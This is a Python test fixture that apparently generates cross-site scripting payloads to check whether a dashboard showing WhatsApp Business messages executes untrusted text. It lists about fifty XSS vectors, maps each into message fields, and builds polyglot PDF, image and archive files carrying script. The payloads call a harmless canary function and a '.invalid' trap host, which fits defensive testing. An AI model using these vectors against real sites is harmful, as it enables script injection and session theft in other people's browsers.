"""What strangers write to run code in a servant's browser, by context; our own list, generated.

Each text carries a mark of its own (`c0417`), by which the test knows that it was shown, and calls
`__xss(417)` or asks a trap host for something if any of it is taken for code.
"""

import json
from collections.abc import Callable, Iterator

ARMADILHA = "canario.invalid"

# {J} is the code to run, {H} the trap host; what must begin the text has no mark before it.
VETORES = (
    "<script>{J}</script>",
    "<ScRiPt >{J}</sCrIpT\t>",
    "<script src=//{H}/s.js></script>",
    "<script type=module>{J}</script>",
    "<img src=//{H}/i.png onerror={J}>",
    "<img src=x onerror=`{J}`>",
    "<img/src='x'/onerror=\"{J}\"//",
    "<svg onload={J}>",
    "<svg><script>{J}</script></svg>",
    "<svg><animate onbegin={J} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{J}'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={J}></style></table></mtext></math>",
    "<iframe src='javascript:{J}'></iframe>",
    "<iframe srcdoc='<script>parent.{J}</script>'></iframe>",
    "<object data='javascript:{J}'></object>",
    "<embed src='data:text/html,<script>{J}</script>'>",
    "<details open ontoggle={J}>x</details>",
    "<input autofocus onfocus={J}>",
    "<video><source onerror={J}></video>",
    "<audio src=x onerror={J}>",
    "<body onload={J}>",
    "<marquee onstart={J}>x</marquee>",
    "<form action='javascript:{J}'><button autofocus onfocus={J}>x</button></form>",
    "<style>@import '//{H}/c.css'; *{{background:url(//{H}/b)}}</style>",
    "<link rel=stylesheet href=//{H}/c.css>",
    "<meta http-equiv=refresh content='0;url=//{H}/'>",
    "<base href=//{H}/>",
    "<div hx-get=//{H}/h hx-trigger=load>x</div>",
    "<div hx-on::load='{J}' hx-on:click='{J}'>x</div>",
    "<div data-hx-get=//{H}/h data-hx-trigger='every 1s'>x</div>",
    '"><script>{J}</script>',
    "'><img src=x onerror={J}>",
    '" onmouseover="{J}" autofocus onfocus="{J}" x="',
    "' onmouseover='{J}' style='animation-name:x' onanimationstart='{J}",
    "--></title></textarea></script></style></noscript><script>{J}</script>",
    '<noscript><p title="</noscript><img src=x onerror={J}>">',
    '<svg></p><style><a id="</style><img src=x onerror={J}>">',
    "<template><script>{J}</script></template><x id=itens><x id=painel>",
    "&lt;script&gt;{J}&lt;/script&gt;",
    "&#60;img src=x onerror={J}&#62;",
    "%3Cscript%3E{J}%3C/script%3E",
    "\\u003cscript\\u003e{J}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{J}\uff1c/script\uff1e",
    "+ADw-script+AD4-{J}+ADw-/script+AD4-",
    "<scr\x00ipt>{J}</scr\x00ipt>",
    "{{{{constructor.constructor('{J}')()}}}} ${{{J}}} {{% load x %}}",
    "*<b>_<img src=x onerror={J}>_</b>* ```<script>{J}</script>```",
    'https://{H}/"onmouseover="{J}"><img src=x onerror={J}>',
    "https://{H}/'onclick='{J}'",
    "javascript:{J}//",
    "data:text/html,<script>{J}</script>",
    "\u202e<script>{J}</script>\u2066",
)
SO_NO_COMECO = ("javascript:", "data:", "https:")


def carga(vetor: str, n: int) -> str:
    """One text, with its mark."""
    texto = vetor.format(J=f"__xss({n})", H=ARMADILHA)
    marca = f"c{n:04d}"
    return f"{texto} {marca}" if vetor.startswith(SO_NO_COMECO) else f"{marca} {texto}"


def _interativa(tipo: str, **partes) -> dict:
    return {"type": "interactive", "interactive": {"type": tipo, tipo: partes}}


# Where a citizen may put a text: context → the parts of Meta's message.
CONTEXTOS: dict[str, Callable[[str], dict]] = {
    "texto": lambda t: {"type": "text", "text": {"body": t}},
    "legenda": lambda t: {"type": "image", "image": {"id": "404", "caption": t}},
    "arquivo": lambda t: {  # what is before a slash is a folder, and is thrown away
        "type": "document",
        "document": {"id": "404", "filename": t.replace("/", "|")},
    },
    "lugar": lambda t: {
        "type": "location",
        "location": {"latitude": -23.5, "longitude": -46.6, "name": t, "address": t, "url": t},
    },
    "contato": lambda t: {
        "type": "contacts",
        "contacts": [
            {
                "name": {"formatted_name": t, "first_name": t},
                "org": {"company": t, "title": t},
                "phones": [{"phone": t, "type": t, "wa_id": t}],
                "emails": [{"email": t}],
                "urls": [{"url": t}],
            }
        ],
    },
    "botao": lambda t: {"type": "button", "button": {"text": t, "payload": t}},
    "botao interativo": lambda t: _interativa("button_reply", id=t, title=t),
    "lista": lambda t: _interativa("list_reply", id=t, title=t, description=t),
    "formulario": lambda t: _interativa(
        "nfm_reply", name=t, body=t, response_json=json.dumps({t: t, "x": [t]})
    ),
    "pedido": lambda t: {
        "type": "order",
        "order": {
            "catalog_id": t,
            "text": t,
            "product_items": [
                {"product_retailer_id": t, "quantity": 1, "item_price": 1, "currency": t}
            ],
        },
    },
    "anuncio": lambda t: {
        "type": "text",
        "text": {"body": t},
        "referral": {"headline": t, "body": t, "source_url": t, "source_type": "ad"},
    },
    "nao suportada": lambda t: {
        "type": "unsupported",
        "errors": [{"code": 131051, "title": t, "message": t, "error_data": {"details": t}}],
    },
    "desconhecida": lambda t: {"type": t[:40], t[:40]: {"x": t}},
}


def arquivos() -> Iterator[tuple[str, str, bytes]]:
    """Yield (name, declared type, bytes) of files that would run if they were believed."""
    js = b"__xss(1)"
    html = b"<!doctype html><script>" + js + b"</script><img src=x onerror=" + js + b">"
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='" + js + b"'><script>" + js
    svg += b"</script></svg>"
    xml = b"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>" + js
    xml += b"</x:script>"
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
    pdf += b"/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    pdf += b"trailer<</Root 1 0 R>>\n%%EOF\n"
    jpeg, png = b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n"
    for nome, tipo in (
        ("p.html", "text/html"),
        ("foto.jpg", "image/jpeg"),
        ("doc.pdf", "application/pdf"),
        ("a.txt", "text/plain"),
        ("<img src=x onerror=__xss(1)>.html", "application/xhtml+xml"),
    ):
        yield nome, tipo, html
    for nome, tipo in (("d.svg", "image/svg+xml"), ("d.png", "image/png"), ("d.xml", "text/xml")):
        yield nome, tipo, svg
    yield "x.xml", "application/xml", xml
    yield "x.mht", "message/rfc822", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + html
    for nome, tipo in (
        ("a.js", "text/javascript"),
        ("a.jpg", "image/jpeg"),
        ("a.ogg", "audio/ogg"),
        ("a.css", "text/css"),
        ("a.json", "application/json"),
    ):
        yield nome, tipo, js + b";/*" + b"x" * 64 + b"*/"
    yield "doc.pdf", "application/pdf", pdf
    yield "poli.pdf", "application/pdf", pdf + html
    yield "poli.jpg", "image/jpeg", jpeg + b"\x2f\x2a" + b"\x00" * 32 + b"*/=1;" + js + b"//" + html
    yield "poli.gif", "image/gif", b"GIF89a/*" + b"\x00" * 32 + b"*/=1;" + js + b"//"
    yield "poli.png", "image/png", png + html
    yield "poli.bmp", "image/bmp", b"BM=1;" + js + b"//"
    yield "poli.ogg", "audio/ogg", b"OggS=1;" + js + b"//" + html
    yield "poli.zip", "application/zip", b"PK\x03\x04" + html
    yield "mp4.html", "video/mp4", b"\x00\x00\x00\x18ftypmp42" + html
    yield "utf7.txt", "text/plain", b"+ADw-script+AD4-" + js + b"+ADw-/script+AD4-"
    yield "utf16.txt", "text/plain", html.decode().encode("utf-16")
